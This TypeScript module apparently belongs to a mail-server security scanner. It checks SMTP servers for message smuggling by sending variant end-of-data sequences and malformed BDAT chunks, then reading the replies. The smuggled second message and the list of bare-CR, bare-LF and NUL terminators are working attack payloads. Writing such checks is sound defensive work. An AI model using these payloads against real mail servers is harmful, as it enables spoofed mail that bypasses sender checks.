/**
 * A second mail inside the first: what a server takes for the end of a message that another, before or behind it, does not
 * (RFC 5321 4.1.1.4 knows one end, CR LF "." CR LF). What stands behind such an end is then a mail that nobody has checked.
 *
 * A target gives itself away by its replies: it answers the commands that were content. One that takes all of it for one
 * message, or none of it, is well.
 */
import { endedWell, limitedTo, type Observed, seen, type Tools, trick } from "./attack.ts";
import type { Contact } from "./contact.ts";
import { address } from "./honest.ts";

const WHAT: Readonly<Record<string, string>> = { "\r": "CR", "\n": "LF", "\0": "NUL", ".": "." };

/** None of them is an end, and each has been one somewhere. */
const ends = [
  "\n.\n",
  "\n.\r\n",
  "\r\n.\n",
  "\r.\r",
  "\r.\r\n",
  "\r.\n",
  "\n.\r",
  "\r\n.\r",
  "\r\r\n.\r\r\n",
  "\n\r.\n\r",
  "\r\n\0.\r\n",
  "\r\n.\0\r\n",
  "\r\n..\r\n",
];

/** A mail as it goes on behind its supposed end: with the commands of another. */
function insideOf({ plan: { mail } }: Tools): string {
  const recipient = mail.recipient.replace("%d", "1");
  return `MAIL FROM:<${mail.sender}>\r\nRCPT TO:<${recipient}>\r\nDATA\r\nSubject: inside\r\n\r\ninside`;
}

export const smuggling = limitedTo({ protocols: ["smtp"] }, [
  ...ends.map((end) =>
    trick("smuggling", `a mail behind ${[...end].map((byte) => WHAT[byte]).join(" ")}`, (tools) =>
      inData(tools, end),
    ),
  ),
  trick("BDAT", "a mail inside a chunk", (tools) => {
    const content = `Subject: outside\r\n\r\noutside\r\n.\r\n${insideOf(tools)}\r\n.\r\n`;
    return inChunk(tools, `BDAT ${content.length} LAST\r\n${content}`);
  }),
  ...["-1", "0x10", "1e1", "99999999999999999999", "+5"].map((size) =>
    trick("BDAT", `a chunk of ${size} bytes`, async (tools) => {
      const contact = await chunking(tools);
      if ("isWell" in contact) return contact;
      const reply = await contact.ask(`BDAT ${size} LAST`);
      return seen(contact, reply === null ? endedWell(contact) : !reply.startsWith("2"));
    }),
  ),
  trick("BDAT", "DATA in the midst of chunks", async (tools) => {
    const contact = await chunking(tools);
    if ("isWell" in contact) return contact;
    const first = await contact.ask("BDAT 6\r\ntext");
    if (first?.startsWith("2") !== true) return seen(contact, first === null ? endedWell(contact) : null);
    const reply = await contact.ask("DATA");
    return seen(contact, reply === null ? endedWell(contact) : !reply.startsWith("3"));
  }),
]);

async function inData(tools: Tools, end: string): Promise<Observed> {
  const contact = await address(tools);
  if ("isWell" in contact) return contact;
  const reply = await contact.ask("DATA");
  if (reply?.startsWith("354") !== true) return seen(contact, null, "not played, as DATA was not taken");
  return judged(contact, `Subject: outside\r\n\r\noutside${end}${insideOf(tools)}\r\n.\r\nQUIT\r\n`);
}

async function inChunk(tools: Tools, chunk: string): Promise<Observed> {
  const contact = await chunking(tools);
  return "isWell" in contact ? contact : judged(contact, `${chunk}QUIT\r\n`);
}

/** Comes as far as to a chunk, where the target takes any. */
async function chunking(tools: Tools): Promise<Contact | Observed> {
  const contact = await address(tools);
  if ("isWell" in contact || /^250[ -]CHUNKING\b/im.test(contact.heard)) return contact;
  contact.close();
  return { outcome: "not played, as the target offers no CHUNKING", isWell: null };
}

/**
 * Content and QUIT in one flight have two replies at most. Another one, or a go-ahead for more content, answers words that
 * were content: whoever reads commands there takes the second mail.
 */
async function judged(contact: Contact, flight: string): Promise<Observed> {
  const before = contact.replies.length;
  contact.send(flight);
  await contact.over();
  const codes = contact.replies.slice(before).map((reply) => reply.slice(0, 3));
  const told = codes.join(" ");
  if (codes.length > 2 || codes.includes("354"))
    return seen(contact, false, `the second mail was read as one, ${told}`);
  if (codes.length === 0) return seen(contact, endedWell(contact));
  return seen(contact, true, codes[0] === "250" ? `one mail, ${told}` : `no mail, ${told}`);
}
